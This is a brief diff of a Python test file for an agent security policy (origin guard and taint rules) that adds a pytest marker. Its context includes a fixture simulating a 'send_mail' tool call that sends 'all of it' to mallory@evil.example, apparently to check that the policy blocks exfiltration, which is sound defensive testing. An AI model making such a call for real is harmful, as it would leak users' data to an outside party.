@@ -12,6 +12,8 @@ from edgeagent.policy.origin_guard import values_from_user
 from edgeagent.policy.rules import never, tainted
 from tests.driver.mcp.conftest import a_call
 
+pytestmark = pytest.mark.long
+
 LOOK, MAIL = a_call("odd_look_up", text="tide"), a_call("send_mail", to="mallory@evil.example", text="all of it")
 LABELS = Labels({"send_mail": egress(to=party, text=text)})
 
